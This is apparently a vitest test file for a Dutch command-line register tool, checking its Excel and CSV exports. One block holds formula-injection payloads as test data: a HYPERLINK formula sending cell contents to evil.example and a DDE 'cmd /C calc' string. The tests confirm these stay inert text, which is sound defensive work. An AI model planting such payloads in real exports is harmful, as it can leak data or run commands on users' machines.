import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { workbookBytes } from '../../src/format/xlsx/workbook.js';
import { DOMAIN_LABELS } from '../../src/i18n/labels.js';
import { spawnLoggingModules } from '../helpers/loaded-modules.js';
import { MINIMAL_CONFIG, REPO_ROOT, runVo, tempDir, tempRegister } from '../helpers/run-cli.js';
import { AS_OF, HOSTILE_TITLE, viewRegister } from './fixture.js';

type Cell = string | number | boolean | Date | null;

/** Every row of the first worksheet as plain values, the header row first; a date cell comes back as a Date. */
async function readSheet(path: string): Promise<{ sheet: ExcelJS.Worksheet; rows: Cell[][] }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const sheet = workbook.worksheets[0]!;
  const rows: Cell[][] = [];
  const width = sheet.getRow(1).cellCount;
  sheet.eachRow((row) => rows.push(Array.from({ length: width }, (_, i) => (row.values as Cell[])[i + 1] ?? null)));
  return { sheet, rows };
}

/** A date cell as `YYYY-MM-DD`, the way JSON writes it; anything else as it is. */
const asJsonDate = (value: Cell) => (value instanceof Date ? value.toISOString().slice(0, 10) : value);

const REGISTER = viewRegister();
const NAMES: Record<string, string> = { burgerzaken: 'Burgerzaken', ict: 'ICT' };
const nl = DOMAIN_LABELS.nl;

async function both(command: string, extra: string[] = []) {
  const file = join(tempDir(), `${command}.xlsx`);
  const written = await runVo(['-C', REGISTER, command, '--format', 'xlsx', '--output', file, '--as-of', AS_OF, ...extra]);
  expect(written.stderr).toBe(`geschreven: ${file}\n`);
  const json = JSON.parse((await runVo(['-C', REGISTER, command, '--format', 'json', '--as-of', AS_OF, ...extra])).stdout) as Record<string, string | boolean | null>[];
  return { file, written, json, ...(await readSheet(file)) };
}

describe('--format xlsx', () => {
  it('vo list: the rows of --format json, Dutch headers and labels, real date cells, frozen header with a filter', async () => {
    const { sheet, rows, json } = await both('list');
    expect(sheet.name).toBe('Overeenkomsten');
    expect(rows[0]).toEqual([
      'Overeenkomst', 'Titel', 'Afdeling', 'Verwerker', 'Fase', 'Risico', 'Laatste evaluatie', 'Volgende evaluatie', 'Evaluatie', 'Fouten', 'Waarschuwingen', 'Status',
    ]);
    const body = rows.slice(1);
    expect(body.map((row) => row.map(asJsonDate))).toEqual(
      json.map((r) => [
        r.id,
        r.title,
        NAMES[r.department as string],
        r.processor,
        nl.phase[r.phase as string],
        nl.risk[(r.risk ?? 'none') as string],
        r.lastEvaluation,
        r.nextEvaluation,
        r.evaluation === null ? null : nl.evaluationStatus[r.evaluation as string],
        r.errors,
        r.warnings,
        nl.status[r.status as string],
      ]),
    );
    expect(body[0]![1]).toBe(HOSTILE_TITLE);
    expect(body[0]![6]).toBeInstanceOf(Date);
    expect(sheet.getCell('G2').numFmt).toBe('dd-mm-yyyy');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe(`A1:L${rows.length}`);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    // Status cells carry the terminal's colours: beta's evaluation is overdue (red), alpha's due soon (yellow);
    // both have errors (red), gamma is in order (green).
    const fill = (id: string, column: number) => {
      const r = rows.findIndex((row) => row[0] === id) + 1;
      return (sheet.getCell(r, column).fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;
    };
    expect([fill('beta', 9), fill('alpha', 9)]).toEqual(['FFFFC7CE', 'FFFFEB9C']);
    expect([fill('beta', 12), fill('alpha', 12), fill('gamma', 12)]).toEqual(['FFFFC7CE', 'FFFFC7CE', 'FFC6EFCE']);
    // Every column is at least as wide as its header.
    sheet.columns.forEach((column, i) => expect(column.width ?? 0).toBeGreaterThanOrEqual(String(rows[0]![i]).length));
  });

  it('vo obligations and vo agenda round-trip the same way', async () => {
    const obligations = await both('obligations');
    expect(obligations.rows.slice(1).map((row) => row.map(asJsonDate))).toEqual(
      obligations.json.map((r) => [
        NAMES[r.department as string],
        r.agreement,
        r.id,
        r.title,
        nl.party[r.party as string],
        nl.frequency[r.frequency as string],
        r.owner,
        r.lastAssessed,
        r.lastStatus === null ? null : nl.assessment[r.lastStatus as string],
        r.nextDue,
        nl.status[r.status as string] ?? nl.obligationStatus[r.status as string],
      ]),
    );
    const agenda = await both('agenda', ['--days', '120']);
    expect(agenda.rows[0]).toEqual(['Datum', 'Soort', 'Overeenkomst', 'Omschrijving', 'Eigenaar', 'Te laat', 'Dagen te laat']);
    expect(agenda.json.length).toBeGreaterThan(3);
    expect(agenda.rows.slice(1).map((row) => [asJsonDate(row[0]!), row[2], row[3], row[4], row[5], row[6]])).toEqual(
      agenda.json.map((item) => [item.date, item.agreement, item.title, item.owner, item.overdue, item.daysLate]),
    );
    expect(agenda.rows.slice(1).every((row) => row[0] instanceof Date && typeof row[5] === 'boolean')).toBe(true);
  });

  it('vo check: one row per finding with the exit code of --fail-on; English with --lang en', async () => {
    const file = join(tempDir(), 'check.xlsx');
    const result = await runVo(['-C', REGISTER, 'check', '--format', 'xlsx', '--output', file, '--as-of', AS_OF, '--lang', 'en']);
    const json = JSON.parse((await runVo(['-C', REGISTER, 'check', '--format', 'json', '--as-of', AS_OF, '--lang', 'en'])).stdout) as {
      findings: { rule: string; severity: string; message: string; file: string; line: number; column: number; due?: string }[];
    };
    expect(result.code).toBe(1);
    const { sheet, rows } = await readSheet(file);
    expect(sheet.name).toBe('Findings');
    expect(rows[0]).toEqual(['Severity', 'Rule', 'Message', 'Agreement', 'Due', 'File', 'Line', 'Column']);
    expect(rows.slice(1).map((row) => [row[1], row[2], asJsonDate(row[4]!), row[5], row[6], row[7]])).toEqual(
      json.findings.map((f) => [f.rule, f.message, f.due ?? null, f.file, f.line, f.column]),
    );
    expect((await runVo(['-C', REGISTER, 'check', '--format', 'xlsx', '--output', join(tempDir(), 'c.xlsx'), '--fail-on', 'never', '--as-of', AS_OF])).code).toBe(0);
  });

  it('needs --output, never overwrites without --force, and gives the same bytes for the same run', async () => {
    for (const command of ['list', 'obligations', 'agenda', 'check']) {
      const result = await runVo(['-C', REGISTER, command, '--format', 'xlsx', '--as-of', AS_OF]);
      expect(result.code, command).toBe(2);
      expect(result.stderr).toBe('vo: --format xlsx maakt een Excel-werkmap; geef ook --output met een bestandsnaam, bijvoorbeeld --output overzicht.xlsx\n');
      expect(result.stdout).toBe('');
    }
    const dir = tempDir();
    const run = (name: string, ...extra: string[]) => runVo(['-C', REGISTER, 'list', '--format', 'xlsx', '--output', join(dir, name), '--as-of', AS_OF, ...extra]);
    await run('a.xlsx');
    await new Promise((resolve) => setTimeout(resolve, 2100)); // the zip stores time in steps of two seconds
    await run('b.xlsx');
    expect(readFileSync(join(dir, 'a.xlsx')).equals(readFileSync(join(dir, 'b.xlsx')))).toBe(true);
    expect((await run('a.xlsx')).code).toBe(2);
    expect((await run('a.xlsx', '--force')).code).toBe(0);
  });
});

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik hier")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '-2+3'];

describe('hostile cell values', () => {
  const register = tempRegister({
    'vo.config.yaml': MINIMAL_CONFIG,
    'agreements/kwaad.yaml': `id: kwaad
title: ${JSON.stringify(HOSTILE[0])}
department: burgerzaken
process_owner:
  name: ${JSON.stringify(HOSTILE[2])}
processor:
  name: ${JSON.stringify(HOSTILE[1])}
phase: active
dates:
  start: "2025-01-01"
obligations:
  - id: rapport
    title: ${JSON.stringify(HOSTILE[3])}
    party: processor
    frequency: monthly
    owner: ${JSON.stringify(HOSTILE[0])}
`,
  });

  it('stay text in xlsx: string cells, never a formula', async () => {
    for (const command of ['list', 'obligations', 'agenda', 'check']) {
      const file = join(tempDir(), `${command}.xlsx`);
      const failOn = command === 'check' ? ['--fail-on', 'never'] : [];
      const result = await runVo(['-C', register, command, '--format', 'xlsx', '--output', file, '--as-of', '2026-10-01', ...failOn]);
      expect(result.code, command).toBe(0);
      const { sheet } = await readSheet(file);
      const texts: string[] = [];
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${command} ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      );
      if (command !== 'check') expect(texts.some((text) => HOSTILE.includes(text)), command).toBe(true);
    }
  });

  it("get a ' in front in csv --excel, and stay as they are in plain csv", async () => {
    const excel = await runVo(['-C', register, 'list', '--excel', '--as-of', '2026-10-01']);
    const row = (parse(excel.stdout, { columns: true, delimiter: ';', bom: true }) as Record<string, string>[])[0]!;
    expect([row.Titel, row.Verwerker]).toEqual([`'${HOSTILE[0]}`, `'${HOSTILE[1]}`]);
    const obligations = await runVo(['-C', register, 'obligations', '--excel', '--as-of', '2026-10-01']);
    const obligation = (parse(obligations.stdout, { columns: true, delimiter: ';', bom: true }) as Record<string, string>[])[0]!;
    expect([obligation.Omschrijving, obligation.Eigenaar]).toEqual([`'${HOSTILE[3]}`, `'${HOSTILE[0]}`]);
    const plain = parse((await runVo(['-C', register, 'list', '--format', 'csv', '--as-of', '2026-10-01'])).stdout, { columns: true }) as Record<string, string>[];
    expect(plain[0]!.Titel).toBe(HOSTILE[0]);
  });
});

describe('help', () => {
  it('every command with --format xlsx shows an example of it, in Dutch and English', async () => {
    for (const command of ['list', 'obligations', 'agenda', 'check']) {
      const nl = await runVo([command, '--help']);
      expect(nl.stdout, command).toMatch(/Voorbeelden:\n[\s\S]*--format xlsx --output \S+\.xlsx/);
      expect(nl.stdout).toContain('xlsx');
      const en = await runVo([command, '--help', '--lang', 'en']);
      expect(en.stdout, command).toMatch(/Examples:\n[\s\S]*--format xlsx --output \S+\.xlsx/);
    }
  });
});

describe('the workbook writer', () => {
  it('keeps sheet names unique and within Excel\'s rules', async () => {
    const sheet = (name: string) => ({ name, columns: [{ header: 'a', type: 'text' as const }], rows: [] });
    const bytes = await workbookBytes([sheet('Agenda'), sheet('agenda'), sheet("'Wat: [nu]?")], { lang: 'nl', asOf: '2026-03-01' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Agenda', 'agenda (2)', 'Wat nu']);
  });
});

describe('loading exceljs', () => {
  const sources = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((entry) =>
      entry.isDirectory() ? sources(join(dir, entry.name)) : entry.name.endsWith('.ts') ? [join(dir, entry.name)] : [],
    );

  it('is imported only as types or dynamically, so commands without a workbook start without it', () => {
    const offenders = sources(join(REPO_ROOT, 'src')).flatMap((file) =>
      [...readFileSync(file, 'utf8').matchAll(/^import (?!type )[^;]*from '(exceljs|csv-parse[^']*)';/gm)].map((m) => `${relative(REPO_ROOT, file)}: ${m[0]}`),
    );
    expect(offenders).toEqual([]);
  });

  it('a spawned vo list never resolves it, vo list --format xlsx does (run `npm run build` first)', () => {
    const run = (args: string[]) => spawnLoggingModules(['-C', join(REPO_ROOT, 'examples'), ...args, '--as-of', '2026-10-01']);
    const exceljs = (modules: string[]) => modules.filter((module) => module.startsWith('node_modules/exceljs/'));
    const list = run(['list', '--format', 'json']);
    expect(list.status).toBe(0);
    expect(exceljs(list.modules)).toEqual([]);
    const xlsx = run(['list', '--format', 'xlsx', '--output', join(tempDir(), 'lijst.xlsx')]);
    expect(xlsx.status).toBe(0);
    expect(exceljs(xlsx.modules)).not.toEqual([]);
  });
});
